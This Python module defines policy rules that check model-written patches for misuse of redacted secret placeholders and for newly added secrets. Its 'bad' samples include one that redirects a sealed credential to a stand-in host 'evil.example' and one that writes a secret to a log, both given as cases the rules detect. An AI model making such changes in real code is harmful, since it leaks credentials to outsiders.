"""Rules on what is sealed: placeholders stay what and where they are; no new secret comes in."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, assert_never

from workflow.policy.rule import Rule, Said, Sample
from workflow.redaction.interface import Fault, FaultKind, Kind, SealingError
from workflow.redaction.vault.placeholder import words
from workflow.types import RepoPath

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from workflow.policy.look import Look, Sight
    from workflow.redaction.interface import Span

# So many values are looked for in every changed file; past them, what was found there counts.
_MAX_SOUGHT = 200

_WORDS = {
    FaultKind.UNKNOWN: "a placeholder that stands for nothing",
    FaultKind.ALTERED: "a placeholder that was altered",
    FaultKind.COPIED: "the placeholder of {what} at one more place",
    FaultKind.MOVED: "the placeholder of {what}, which stood elsewhere",
    FaultKind.REWIRED: "the placeholder of {what} in a statement that is not the same any more",
}


def _placeholders(kind: FaultKind, look: Look) -> Iterator[Said]:
    for fault in look.faults:
        if fault.kind is kind and not _is_free(fault, look):
            said = _WORDS[kind].format(what=_what(fault.sealed))
            yield RepoPath(fault.path), f"line {fault.line} has {said}"
    if kind is FaultKind.UNKNOWN and look.role is None:
        yield from _left_over(look)


def _left_over(look: Look) -> Iterator[Said]:
    """Placeholders in a patch from anywhere: only the draft of a proposal is restored."""
    for file in look.files:
        if any(words(line) for line in file.added):
            yield file.path, "it gets a placeholder, which only `workflow propose` can restore"


def _is_free(fault: Fault, look: Look) -> bool:
    match fault.kind:
        case FaultKind.REWIRED:
            # A name or an address may be spoken of in another way: it lets nobody in.
            return fault.sealed is not None and not fault.sealed.is_secret
        case FaultKind.COPIED | FaultKind.MOVED:
            return look.policy.sealing.move(fault.source or fault.path, fault.path) is not None
        case FaultKind.UNKNOWN | FaultKind.ALTERED:
            return False
        case _:
            assert_never(fault.kind)


def _what(kind: Kind | None) -> str:
    return "a value" if kind is None else f"a value of the kind {kind.value}"


# --- secrets that come in -------------------------------------------------------------------------


def _secret_added(look: Look) -> Iterator[Said]:
    if look.secrets is None:
        return
    known: set[bytes] | None = None
    sought = 0
    for file in look.files:
        if not file.added:
            continue
        try:
            spans = look.secrets(file.new, file.path)
        except SealingError:
            # What is binary says `binary-file`; text that cannot be read may hold anything.
            if file.is_text:
                yield file.path, "it cannot be read, so nobody can say whether a secret comes in"
            continue
        for span, line in _on_added_lines(file, spans):
            known = _values_before(look) if known is None else known
            value = file.new[span.start : span.end]
            if value in known:
                continue
            sought += 1
            if sought > _MAX_SOUGHT or not any(value in other.old for other in look.files):
                yield file.path, f"line {line} brings in a secret of the kind {span.kind.value}"


def _on_added_lines(file: Sight, spans: Sequence[Span]) -> Iterator[tuple[Span, int]]:
    """The secrets on lines that come in, and the number of each line, from 1."""
    added = set(file.added)
    line, at = 1, 0
    for span in sorted(spans):
        if not span.kind.is_secret:
            continue
        line += file.new.count(b"\n", at, span.start)
        at = span.start
        begin = file.new.rfind(b"\n", 0, at) + 1
        end = file.new.find(b"\n", at)
        if file.new[begin : end if end >= 0 else None] in added:
            yield span, line


def _values_before(look: Look) -> set[bytes]:
    """The secrets that the changed files had; a file that cannot be read had none."""
    values: set[bytes] = set()
    for file in look.files:
        try:
            spans = look.secrets(file.old, file.path) if look.secrets and file.old else ()
        except SealingError:
            continue
        values |= {file.old[span.start : span.end] for span in spans}
    return values


_FILE = "app/settings.py"


def _fault(kind: FaultKind, line: int) -> tuple[Fault, ...]:
    return (Fault(kind, _FILE, line, Kind.PASSWORD),)


PLACEHOLDER_UNKNOWN = Rule(
    id="placeholder-unknown",
    reason="the result has what looks like a placeholder and stands for nothing",
    about=(
        "Where a value was, a model sees a placeholder.  One that was never given out is invented "
        "or misspelt: nobody can say what belongs there."
    ),
    good=Sample({_FILE: b"retries = 3\n"}, {_FILE: b"retries = 5\n"}),
    bad=Sample(
        {_FILE: b"retries = 3\n"},
        {_FILE: b"retries = 3\nkeyring = 'ZQVX...'\n"},
        faults=(Fault(FaultKind.UNKNOWN, _FILE, 2),),
    ),
    check=partial(_placeholders, FaultKind.UNKNOWN),
    is_fixed=True,
)
PLACEHOLDER_ALTERED = Rule(
    id="placeholder-altered",
    reason="the result has a placeholder that was cut, lengthened, respelled or broken up",
    about=(
        "A placeholder is restored in exactly the spelling that was given out, so an altered one "
        "would stay in the file in place of the value."
    ),
    good=Sample({_FILE: b"retries = 3\n"}, {_FILE: b"retries = 5\n"}),
    bad=Sample(
        {_FILE: b"keyring = load()\n"},
        {_FILE: b"keyring = 'zqvx...'\n"},
        faults=(Fault(FaultKind.ALTERED, _FILE, 1),),
    ),
    check=partial(_placeholders, FaultKind.ALTERED),
    is_fixed=True,
)
PLACEHOLDER_COPIED = Rule(
    id="placeholder-copied",
    reason="a sealed value stands at more places than before",
    about=(
        "Whoever cannot read a value can still place it: in a log line, a response body, a second "
        "file.  A value that the request itself names may come in once.  `sealing.moves` of the "
        "policy lists files where it may."
    ),
    good=Sample({_FILE: b"connect(keyring)\n"}, {_FILE: b"connect(keyring, 5)\n"}),
    bad=Sample(
        {_FILE: b"connect(keyring)\n"},
        {_FILE: b"connect(keyring)\nlog(keyring)\n"},
        faults=_fault(FaultKind.COPIED, 2),
    ),
    check=partial(_placeholders, FaultKind.COPIED),
)
PLACEHOLDER_MOVED = Rule(
    id="placeholder-moved",
    reason="a sealed value stands in another file, or below another block, parent or heading",
    about=(
        "What a value does depends on where it stands: a header that one `location` of a server "
        "needs is given away by another.  Blocks are told by brackets, tags, indentation and "
        "headings, in a file of unknown syntax by all of them.  "
        "Lines may change their order within one.  `sealing.moves` of the policy lists files "
        "within and between which a value may move."
    ),
    good=Sample(
        {_FILE: b"def start():\n    connect(keyring)\n"},
        {_FILE: b"def start():\n    check()\n    connect(keyring)\n"},
    ),
    bad=Sample(
        {_FILE: b"def start():\n    connect(keyring)\ndef show():\n    pass\n"},
        {_FILE: b"def start():\n    pass\ndef show():\n    connect(keyring)\n"},
        faults=_fault(FaultKind.MOVED, 4),
    ),
    check=partial(_placeholders, FaultKind.MOVED),
)
PLACEHOLDER_REWIRED = Rule(
    id="placeholder-rewired",
    reason="a sealed secret stays and the statement around it says something else",
    about=(
        "`postgres://user:secret@db.internal` with another host sends the secret there.  Any "
        "change of the statement that holds a secret counts, and so does a string, here-document "
        "or comment put around it, but not one of blanks or of a comma behind it.  Names and "
        "addresses of tenants do not count: they let nobody in."
    ),
    good=Sample(
        {_FILE: b"connect('db.internal', keyring)\n"},
        {_FILE: b"connect('db.internal',  keyring)\nretries = 3\n"},
    ),
    bad=Sample(
        {_FILE: b"connect('db.internal', keyring)\n"},
        {_FILE: b"connect('evil.example', keyring)\n"},
        faults=_fault(FaultKind.REWIRED, 1),
    ),
    check=partial(_placeholders, FaultKind.REWIRED),
)
SECRET_ADDED = Rule(
    id="secret-added",
    reason="an added line has a secret that no changed file had before",
    about=(
        "A model that has no secret may invent one, or write one down that the request names.  "
        "Either way it would be in the history of the repository for good: let the program read it "
        "from the environment or a vault.  A file of text that cannot be read is refused as well; "
        "binary ones are left to `binary-file`."
    ),
    good=Sample(
        {_FILE: b"connect(keyring)\n"},
        {_FILE: b"connect(os.environ['KEYRING'])\n"},
        secrets=(b"open sesame",),
    ),
    bad=Sample(
        {_FILE: b"connect(keyring)\n"},
        {_FILE: b"connect('open sesame')\n"},
        secrets=(b"open sesame",),
    ),
    check=_secret_added,
)
